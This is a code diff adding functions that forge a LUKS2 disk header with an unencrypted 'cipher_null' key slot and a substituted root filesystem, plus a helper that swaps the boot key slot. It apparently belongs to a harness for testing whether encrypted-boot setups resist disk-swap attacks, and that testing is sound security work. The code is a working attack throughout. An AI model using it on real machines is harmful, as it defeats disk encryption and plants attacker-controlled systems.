@@ -5,6 +5,7 @@
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import json
 import pathlib
@@ -14,6 +15,8 @@ import subprocess
 import tempfile
 import typing as t
 import uuid
+
+from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
 
 from attack_images import HEADER, Image, partitions
 
@@ -139,6 +142,53 @@ def forge_disk(image: Image, disk: pathlib.Path, folder: pathlib.Path) -> None:
     root = host_root(folder / "root.ext4", uuid=image.root_uuid)
     write(disk, image.luks.start, header)
     write(disk, image.luks.start + offset, root.read_bytes())
+
+
+def forge_disk_with_null_slot(image: Image, disk: pathlib.Path, folder: pathlib.Path) -> None:
+    """Put a header of the host's own, and its root, into the volume of a disk.
+
+    The key slot is not encrypted: whatever the key is, what lies there is the volume key.
+    """
+    path, key = folder / "null-slot", folder / "any.key"
+    key.write_text("any")
+    size = image.payload - image.luks.start
+    run("truncate", "-s", str(HEADER + (1 << 20)), path)
+    argv = ["cryptsetup", "luksFormat", "--batch-mode", "--type", "luks2", "--uuid", image.luks_uuid]
+    argv += ["--key-file", key, "--pbkdf", "pbkdf2", "--pbkdf-force-iterations", "1000"]
+    run(*argv, "--luks2-keyslots-size", "256k", "--offset", str(max(size, 1 << 20) // 512), path)
+    header = bytearray(read(path, 0, size))
+
+    def reveal(area: dict[str, t.Any]) -> None:
+        slot = area["keyslots"]["0"]
+        kdf, place = slot["kdf"], slot["area"]
+        salt = base64.b64decode(kdf["salt"])
+        secret = hashlib.pbkdf2_hmac(
+            kdf["hash"], b"any", salt, kdf["iterations"], place["key_size"]
+        )
+        begin, length = int(place["offset"]), slot["key_size"] * slot["af"]["stripes"]
+        for number in range(length // 512):
+            at = begin + number * 512
+            cipher = Cipher(algorithms.AES(secret), modes.XTS(number.to_bytes(16, "little")))
+            header[at : at + 512] = cipher.decryptor().update(read(path, at, 512))
+        place["encryption"] = area["segments"]["0"]["encryption"] = "cipher_null-ecb"
+
+    offset = edit_luks2(header, reveal)
+    root = host_root(folder / "root.ext4", uuid=image.root_uuid)
+    write(disk, image.luks.start, bytes(header))
+    write(disk, image.luks.start + offset, root.read_bytes())
+
+
+def change_boot_key(image: Image, header: bytes, new: str, folder: pathlib.Path) -> bytes:
+    """Return a header with another key in the slot of the boot key, as a rotation leaves it."""
+    path, file = folder / "header", folder / "new.key"
+    path.write_bytes(header)
+    file.touch(0o600)
+    file.write_text(new)
+    cheap = ["--pbkdf", "pbkdf2", "--pbkdf-force-iterations", "1000"]
+    keys = ["--key-file", image.directory / "recovery.key", path]
+    run("cryptsetup", "luksKillSlot", "--batch-mode", *keys, "0")
+    run("cryptsetup", "luksAddKey", "--batch-mode", "--key-slot", "0", *cheap, *keys, file)
+    return path.read_bytes()
 
 
 def write(disk: pathlib.Path, position: int, data: bytes) -> None:
